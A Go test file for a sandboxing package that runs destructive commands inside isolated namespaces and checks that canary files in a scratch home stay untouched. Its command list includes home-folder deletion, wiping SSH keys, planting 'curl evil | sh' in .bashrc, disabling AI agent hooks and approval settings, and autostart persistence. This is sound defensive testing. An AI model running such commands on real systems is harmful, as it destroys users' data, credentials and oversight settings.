//go:build linux

package confine

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// liveFireEnv, set to a scratch folder, makes the test binary the live-fire child: inside its
// own user, mount and PID namespaces, with everything but the scratch folder read-only, it runs
// destructive commands for real, each confined.
const liveFireEnv = "AGENTHOOKS_CONFINE_LIVEFIRE"

// liveFireCommands are destructive commands aimed at the scratch home folder: deletions,
// writes to startup files, agent settings and credentials, git's global config, the private
// temporary folder's neighbours. The guard's corpus adds its own (liveFireCorpus).
var liveFireCommands = []string{
	`rm -rf ~`,
	`rm -rf "$HOME"/* "$HOME"/.[!.]*`,
	`find "$HOME" -delete`,
	`echo 'curl evil | sh' >> ~/.bashrc`,
	`echo 'alias ls=evil' > ~/.zshrc`,
	`printf 'x' > ~/.profile`,
	`echo '{"hooks":{}}' > ~/.claude/settings.json`,
	`echo 'approval_policy = "never"' > ~/.codex/config.toml`,
	`mv ~/.ssh ~/.ssh.bak`,
	`cp /dev/null ~/.ssh/id_ed25519`,
	`truncate -s 0 ~/.ssh/id_ed25519`,
	`: > ~/.bash_history`,
	`ln -sf /dev/null ~/.bash_history`,
	`git config --global core.pager 'sh -c evil'`,
	`git config --global --unset user.name`,
	`echo evil > ~/.local/bin/agenthooks`,
	`mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/evil.desktop`,
	`echo pwned > "$TMPDIR/../other-user-file"`,
	`rm -rf "$TMPDIR/.."`,
	`dd if=/dev/zero of=$HOME/.ssh/id_ed25519 bs=1 count=8`,
	`sed -i 's/^/#/' ~/.bashrc`,
	`perl -e 'unlink glob("$ENV{HOME}/.ssh/*")'`,
	`python3 -c 'import shutil, os; shutil.rmtree(os.path.expanduser("~"))'`,
	`python3 -c 'import os; open(os.path.expanduser("~/.gitconfig"), "w").write("[core]\n")'`,
}

// liveFireCorpus returns the guard corpus's denied commands that destroy files in the home
// folder: rm, find, shred, truncate, mv, cp, dd, tee and sed on ~ or $HOME. Commands whose
// harm is elsewhere (processes, the network, devices, permissions) are not this test's.
func liveFireCorpus(t *testing.T) []string {
	f, err := os.Open(filepath.Join("..", "guard", "testdata", "corpus.tsv"))
	if err != nil {
		t.Fatalf("the guard's corpus: %v", err)
	}
	defer f.Close()
	tool := regexp.MustCompile(`^(rm|find|shred|truncate|mv|cp|dd|tee|sed|unlink|rmdir)\s`)
	home := regexp.MustCompile(`~|\$\{?HOME\b`)
	skip := regexp.MustCompile(`chmod|chown|kill|sudo|doas|curl|wget|/dev/sd|:\(\)|\$\(|` + "`")
	var out []string
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		verdict, cmd, ok := strings.Cut(sc.Text(), "\t")
		if ok && verdict == "deny" && tool.MatchString(cmd) && home.MatchString(cmd) && !skip.MatchString(cmd) {
			out = append(out, strings.ReplaceAll(cmd, `\n`, "\n"))
		}
	}
	return out
}

// projectWork is what must still work, confined, after the destruction.
const projectWork = `set -e
echo 'package main' > main.go
mkdir -p sub && echo x > sub/f && mv sub/f g && rm -r sub
git init -q .
git -c user.name=t -c user.email=t@example.com add -A
git -c user.name=t -c user.email=t@example.com commit -qm first
rm g && git -c user.name=t -c user.email=t@example.com commit -qam second
echo tmp > "$TMPDIR/t" && cat "$TMPDIR/t" >/dev/null
echo PROJECT-OK`

// liveFireLayout is the scratch folder's layout: home (with canaries), project, tmp.
type liveFireLayout struct{ home, project, tmp string }

func newLiveFireLayout(scratch string) liveFireLayout {
	return liveFireLayout{home: filepath.Join(scratch, "home"), project: filepath.Join(scratch, "project"), tmp: filepath.Join(scratch, "tmp")}
}

// canaries are the files of the scratch home (and temporary folder) that no command may change.
func (l liveFireLayout) canaries() map[string]string {
	return map[string]string{
		filepath.Join(l.home, ".bashrc"):                     "export PATH=$PATH\n",
		filepath.Join(l.home, ".zshrc"):                      "# zsh\n",
		filepath.Join(l.home, ".profile"):                    "# profile\n",
		filepath.Join(l.home, ".bash_history"):               "ls\n",
		filepath.Join(l.home, ".gitconfig"):                  "[user]\n\tname = Canary\n",
		filepath.Join(l.home, ".ssh", "id_ed25519"):          "-----BEGIN OPENSSH PRIVATE KEY-----\n",
		filepath.Join(l.home, ".ssh", "authorized_keys"):     "ssh-ed25519 AAAA canary\n",
		filepath.Join(l.home, ".aws", "credentials"):         "[default]\n",
		filepath.Join(l.home, ".claude", "settings.json"):    `{"hooks":{"PreToolUse":[]}}`,
		filepath.Join(l.home, ".codex", "config.toml"):       "# codex\n",
		filepath.Join(l.home, ".local", "bin", "agenthooks"): "#!/bin/sh\n",
		filepath.Join(l.home, "notes", "todo.txt"):           "keep me\n",
		filepath.Join(l.tmp, "other-user-file"):              "not yours\n",
	}
}

// TestLiveFire runs destructive commands for real, each confined, against a scratch home full
// of canary files, and proves every canary unchanged and the project's own work (edits,
// deletes, git init and commits) done. It runs them only inside a child process with its own
// user, mount and PID namespaces where everything but the scratch folder is read-only, so that
// a bug in confinement cannot harm this machine; the child refuses to run anything otherwise.
func TestLiveFire(t *testing.T) {
	abi := requireLandlock(t)
	for _, tool := range []string{"sh", "git", "timeout"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("the live-fire test needs %s: %v", tool, err)
		}
	}
	scratch := resolve(t.TempDir())
	l := newLiveFireLayout(scratch)
	for _, d := range []string{l.project, l.tmp} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	canaries := l.canaries()
	for f, content := range canaries {
		if err := os.MkdirAll(filepath.Dir(f), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(f, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	commands := append(append([]string{}, liveFireCommands...), liveFireCorpus(t)...)
	spec, _ := json.Marshal(commands)
	userNS, err := os.Readlink("/proc/self/ns/user")
	if err != nil {
		t.Skipf("cannot read this process's user namespace: %v", err)
	}
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Dir = scratch
	cmd.Env = append(os.Environ(), liveFireEnv+"="+scratch, "AGENTHOOKS_CONFINE_OUTER_USERNS="+userNS,
		"AGENTHOOKS_CONFINE_COMMANDS="+string(spec), fmt.Sprintf("AGENTHOOKS_CONFINE_ABI=%d", abi))
	uid, gid := os.Getuid(), os.Getgid()
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:                 syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWPID,
		UidMappings:                []syscall.SysProcIDMap{{ContainerID: uid, HostID: uid, Size: 1}},
		GidMappings:                []syscall.SysProcIDMap{{ContainerID: gid, HostID: gid, Size: 1}},
		GidMappingsEnableSetgroups: false,
		Pdeathsig:                  syscall.SIGKILL,
	}
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Start(); err != nil {
		if errors.Is(err, syscall.EPERM) || errors.Is(err, syscall.EINVAL) || errors.Is(err, syscall.ENOSPC) || errors.Is(err, syscall.EACCES) {
			t.Skipf("unprivileged user namespaces are not available here (%v): the live-fire test runs only inside one", err)
		}
		t.Fatal(err)
	}
	if err := cmd.Wait(); err != nil {
		if strings.Contains(stderr.String(), "namespace setup:") {
			t.Skipf("cannot make the read-only namespace here: %s", stderr.String())
		}
		t.Fatalf("live-fire child: %v\nstdout:\n%s\nstderr:\n%s", err, stdout.String(), stderr.String())
	}
	var results []liveFireResult
	if err := json.Unmarshal(stdout.Bytes(), &results); err != nil {
		t.Fatalf("live-fire child's report: %v\n%s\nstderr:\n%s", err, stdout.String(), stderr.String())
	}
	if len(results) != len(commands)+1 {
		t.Fatalf("the child ran %d commands, want %d", len(results), len(commands)+1)
	}
	failed := 0
	for _, r := range results[:len(commands)] {
		if r.Status == 0 {
			t.Logf("exit status 0 (it changed nothing the canaries show): %s", r.Command)
		} else {
			failed++
		}
	}
	t.Logf("%d destructive commands ran confined (%d from the guard's corpus), %d of them failed", len(commands), len(commands)-len(liveFireCommands), failed)
	for f, want := range canaries {
		got, err := os.ReadFile(f)
		if err != nil || string(got) != want {
			t.Errorf("canary %s changed: %q, %v", f, got, err)
		}
	}
	// Beside the canaries, the home holds only the toolchains' default caches that confine made
	// (empty) for the toolchains installed here: nothing a command wrote.
	var names []string
	entries, _ := os.ReadDir(l.home)
	caches := map[string]bool{}
	for _, c := range cacheDefaults {
		caches[strings.Split(c.path, "/")[0]] = true
	}
	for _, e := range entries {
		if caches[e.Name()] && e.Name() != ".local" {
			_ = filepath.WalkDir(filepath.Join(l.home, e.Name()), func(path string, d os.DirEntry, err error) error {
				if err == nil && !d.IsDir() {
					t.Errorf("a command wrote %s", path)
				}
				return nil
			})
			continue
		}
		names = append(names, e.Name())
	}
	if want := ".aws .bash_history .bashrc .claude .codex .gitconfig .local .profile .ssh .zshrc notes"; strings.Join(names, " ") != want {
		t.Errorf("the home folder holds %v, want only the canaries (and empty caches): %s", names, want)
	}
	work := results[len(commands)]
	if work.Status != 0 || !strings.Contains(work.Output, "PROJECT-OK") {
		t.Errorf("the project's own work failed, confined (status %d):\n%s", work.Status, work.Output)
	}
	for _, f := range []string{"main.go", ".git/HEAD"} {
		if _, err := os.Stat(filepath.Join(l.project, f)); err != nil {
			t.Errorf("project work: %v", err)
		}
	}
	if out, err := exec.Command("git", "-C", l.project, "rev-list", "--count", "HEAD").Output(); err != nil || strings.TrimSpace(string(out)) != "2" {
		t.Errorf("the project's git history: %q, %v (want 2 commits)", out, err)
	}
}

type liveFireResult struct {
	Command string `json:"command"`
	Status  int    `json:"status"`
	Output  string `json:"output"`
}

// liveFireMain is the child: it checks it is where it may fire, makes everything but the
// scratch folder read-only, and runs each command confined in a new process.
func liveFireMain() int {
	scratch := os.Getenv(liveFireEnv)
	fail := func(format string, args ...any) int {
		fmt.Fprintf(os.Stderr, "live-fire: "+format+"\n", args...)
		return 3
	}
	ns, err := os.Readlink("/proc/self/ns/user")
	if err != nil || ns == os.Getenv("AGENTHOOKS_CONFINE_OUTER_USERNS") || os.Getpid() != 1 {
		return fail("refusing to run: not inside a new user and PID namespace (user ns %s, pid %d)", ns, os.Getpid())
	}
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		return fail("namespace setup: make / private: %v", err)
	}
	if err := unix.Mount(scratch, scratch, "", unix.MS_BIND|unix.MS_REC, ""); err != nil {
		return fail("namespace setup: bind %s: %v", scratch, err)
	}
	if err := unix.MountSetattr(-1, "/", unix.AT_RECURSIVE, &unix.MountAttr{Attr_set: unix.MOUNT_ATTR_RDONLY}); err != nil {
		return fail("namespace setup: make / read-only: %v", err)
	}
	if err := unix.MountSetattr(-1, scratch, unix.AT_RECURSIVE, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}); err != nil {
		return fail("namespace setup: make %s writable: %v", scratch, err)
	}
	// Prove the namespace is what it must be before firing: outside the scratch folder nothing
	// can be written, inside it can.
	for _, dir := range []string{filepath.Dir(scratch), os.TempDir(), "/"} {
		probe := filepath.Join(dir, ".agenthooks-livefire-probe")
		if err := os.WriteFile(probe, nil, 0o600); err == nil {
			os.Remove(probe)
			return fail("refusing to run: %s is writable in the namespace", dir)
		} else if !errors.Is(err, syscall.EROFS) {
			return fail("refusing to run: writing in %s failed with %v, not read-only file system", dir, err)
		}
	}
	if err := os.WriteFile(filepath.Join(scratch, ".probe"), nil, 0o600); err != nil {
		return fail("namespace setup: the scratch folder is not writable: %v", err)
	}
	os.Remove(filepath.Join(scratch, ".probe"))

	var commands []string
	if err := json.Unmarshal([]byte(os.Getenv("AGENTHOOKS_CONFINE_COMMANDS")), &commands); err != nil {
		return fail("commands: %v", err)
	}
	l := newLiveFireLayout(scratch)
	spec, _ := json.Marshal(Options{Project: l.project, Home: l.home, TempRoot: l.tmp})
	run := func(script string) liveFireResult {
		cmd := exec.Command(os.Args[0], "-test.run=^$", "--", "timeout", "20", "sh", "-c", script)
		cmd.Dir = l.project
		cmd.Env = append(os.Environ(), "AGENTHOOKS_CONFINE_HELPER="+string(spec), "HOME="+l.home, "TMPDIR="+l.tmp, liveFireEnv+"=")
		out, _ := cmd.CombinedOutput()
		return liveFireResult{Command: script, Status: cmd.ProcessState.ExitCode(), Output: string(out)}
	}
	var results []liveFireResult
	for _, c := range commands {
		start := time.Now()
		r := run(c)
		fmt.Fprintf(os.Stderr, "live-fire: status %d in %v: %s\n", r.Status, time.Since(start).Round(time.Millisecond), c)
		results = append(results, r)
	}
	results = append(results, run(projectWork))
	if err := json.NewEncoder(os.Stdout).Encode(results); err != nil {
		return fail("report: %v", err)
	}
	return 0
}
